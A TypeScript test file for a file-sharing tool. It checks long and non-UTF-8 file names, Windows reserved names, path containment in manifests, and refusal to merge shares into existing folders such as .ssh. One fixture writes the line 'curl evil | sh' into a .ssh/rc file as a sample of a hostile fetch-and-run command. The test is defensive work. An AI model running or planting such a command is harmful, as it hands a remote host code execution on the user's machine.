// File names at the edges of what a file system takes (docs/SECURITY.md, "Names").
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buildShare, deriveBlockKey, FileBlockSource, restoreShare } from '../../src/blocks/index.ts'
import { partName } from '../../src/blocks/plainstore.ts'
import { localSegments, portableSegment } from '../../src/blocks/names.ts'
import { collectFiles } from '../../src/blocks/walk.ts'

test('a file name of 255 bytes can be shared and fetched: its .part name is shortened', async t => {
  const dir = await mkdtemp(join(tmpdir(), 'oht-names-'))
  t.after(async () => { await rm(dir, { recursive: true, force: true }) })
  // 255 bytes in UTF-8: 126 two-byte characters and three ASCII ones.
  const name = 'ä'.repeat(126) + 'abc'
  assert.equal(Buffer.byteLength(name), 255)
  const data = randomBytes(100_000)
  await writeFile(join(dir, name), data)
  const built = await buildShare([join(dir, name)])
  const source = new FileBlockSource(built.files, built.manifest.header, deriveBlockKey(built.contentKey), built.leaves)
  const r = await restoreShare(built.manifest, deriveBlockKey(built.contentKey), source, join(dir, 'out'))
  assert.ok((await readFile(r.files[0]!)).equals(data))
  assert.deepEqual((await readdir(join(dir, 'out'))).filter(n => n.endsWith('.part')), [], 'no .part left behind')
  await source.close()
})

test('.part names: the usual form when it fits, a short deterministic one when it may not', () => {
  assert.equal(partName('/x/film.mkv', new Set()), '/x/film.mkv.part')
  assert.equal(partName('/x/film.mkv', new Set(['/x/film.mkv.part'])), '/x/film.mkv.1.part')
  const long = '/x/' + 'a'.repeat(250)
  const part = partName(long, new Set())
  assert.match(part, /^\/x\/\.oht-[0-9a-f]{24}\.part$/)
  assert.equal(partName(long, new Set()), part, 'the same name on resume')
})

test('a file name that is not UTF-8 is skipped with a reason; the rest of the folder is shared', async t => {
  const dir = await mkdtemp(join(tmpdir(), 'oht-names-'))
  t.after(async () => { await rm(dir, { recursive: true, force: true }) })
  await mkdir(join(dir, 'folder'))
  await writeFile(join(dir, 'folder', 'ok.txt'), 'fine')
  // Latin-1 "é" (0xE9) alone is not UTF-8.
  await writeFile(Buffer.concat([Buffer.from(join(dir, 'folder') + '/caf'), Buffer.from([0xe9]), Buffer.from('.txt')]), 'latin-1')
  const collected = await collectFiles([join(dir, 'folder')])
  assert.deepEqual(collected.files.map(f => f.path), ['folder/ok.txt'])
  assert.equal(collected.skipped.length, 1)
  assert.match(collected.skipped[0]!.reason, /not valid UTF-8/)
})

test('a share named .ssh does not merge into an existing .ssh folder unless forced', async t => {
  const dir = await mkdtemp(join(tmpdir(), 'oht-names-'))
  t.after(async () => { await rm(dir, { recursive: true, force: true }) })
  await mkdir(join(dir, 'src', '.ssh'), { recursive: true })
  await writeFile(join(dir, 'src', '.ssh', 'rc'), 'curl evil | sh')
  const built = await buildShare([join(dir, 'src', '.ssh')])
  const source = new FileBlockSource(built.files, built.manifest.header, deriveBlockKey(built.contentKey), built.leaves)
  const home = join(dir, 'home')
  await mkdir(join(home, '.ssh'), { recursive: true })
  await assert.rejects(restoreShare(built.manifest, deriveBlockKey(built.contentKey), source, home), /hidden and would merge into the one already in/)
  assert.deepEqual(await readdir(join(home, '.ssh')), [], 'nothing was written into the existing folder')
  const r = await restoreShare(built.manifest, deriveBlockKey(built.contentKey), source, home, { overwrite: true })
  assert.equal(r.files.length, 1)
  // Into a fresh folder it is fetched as usual.
  await restoreShare(built.manifest, deriveBlockKey(built.contentKey), source, join(dir, 'fresh'))
  await source.close()
})

test("a manifest path outside the share's own name is refused", async () => {
  const { buildRawShare } = await import('../helpers/raw-share.ts')
  const { openManifest } = await import('../../src/blocks/index.ts')
  const plaintext = randomBytes(100)
  for (const files of [[{ path: 'other/a', size: 100 }], [{ path: 'share/a', size: 50 }, { path: 'sharex/b', size: 50 }]]) {
    const s = buildRawShare({ plaintext, name: 'share', files })
    assert.throws(() => openManifest(s.manifestBytes, s.contentKey, s.cid), /is not under the share's name "share"/)
  }
  const ok = buildRawShare({ plaintext, name: 'share', files: [{ path: 'share/a', size: 100 }] })
  openManifest(ok.manifestBytes, ok.contentKey, ok.cid)
  const file = buildRawShare({ plaintext, kind: 'file', name: 'a.txt', files: [{ path: 'b.txt', size: 100 }] })
  assert.throws(() => openManifest(file.manifestBytes, file.contentKey, file.cid), /not under the share's name/)
})

test('names Windows reserves get their portable form there, and are written as given elsewhere', () => {
  assert.equal(portableSegment('CON'), 'CON_')
  assert.equal(portableSegment('con.txt'), 'con_.txt')
  assert.equal(portableSegment('LPT1.tar.gz'), 'LPT1_.tar.gz')
  assert.equal(portableSegment('a:b?c*.txt'), 'a_b_c_.txt')
  assert.equal(portableSegment('ends. '), 'ends__')
  assert.equal(portableSegment('CONSOLE.txt'), 'CONSOLE.txt', 'only the device names themselves')
  assert.equal(portableSegment('film.mkv'), 'film.mkv')
  assert.deepEqual(localSegments('share/CON/a:b', 'win32'), ['share', 'CON_', 'a_b'])
  assert.deepEqual(localSegments('share/CON/a:b', 'linux'), ['share', 'CON', 'a:b'])
})

test('a share whose folder already exists is not merged into it unless --merge; existing files are never replaced without --force', async t => {
  const dir = await mkdtemp(join(tmpdir(), 'oht-names-'))
  t.after(async () => { await rm(dir, { recursive: true, force: true }) })
  await mkdir(join(dir, 'src', 'album'), { recursive: true })
  await writeFile(join(dir, 'src', 'album', 'a.txt'), 'from the share')
  await writeFile(join(dir, 'src', 'album', 'b.txt'), 'from the share too')
  const built = await buildShare([join(dir, 'src', 'album')])
  const key = deriveBlockKey(built.contentKey)
  const source = new FileBlockSource(built.files, built.manifest.header, key, built.leaves)
  t.after(async () => { await source.close() })
  const out = join(dir, 'out')
  await mkdir(join(out, 'album'), { recursive: true })
  await writeFile(join(out, 'album', 'mine.txt'), 'my own')
  await assert.rejects(restoreShare(built.manifest, key, source, out), /the folder .*album already exists: .*--merge/)
  assert.deepEqual(await readdir(join(out, 'album')), ['mine.txt'], 'nothing was written into the existing folder')
  await restoreShare(built.manifest, key, source, out, { merge: true })
  assert.deepEqual((await readdir(join(out, 'album'))).sort(), ['a.txt', 'b.txt', 'mine.txt'])
  assert.equal(await readFile(join(out, 'album', 'mine.txt'), 'utf8'), 'my own')
  // Merging again finds the share's own files there: they are not replaced without --force.
  await assert.rejects(restoreShare(built.manifest, key, source, out, { merge: true }), /already exists \(use --force/)
})
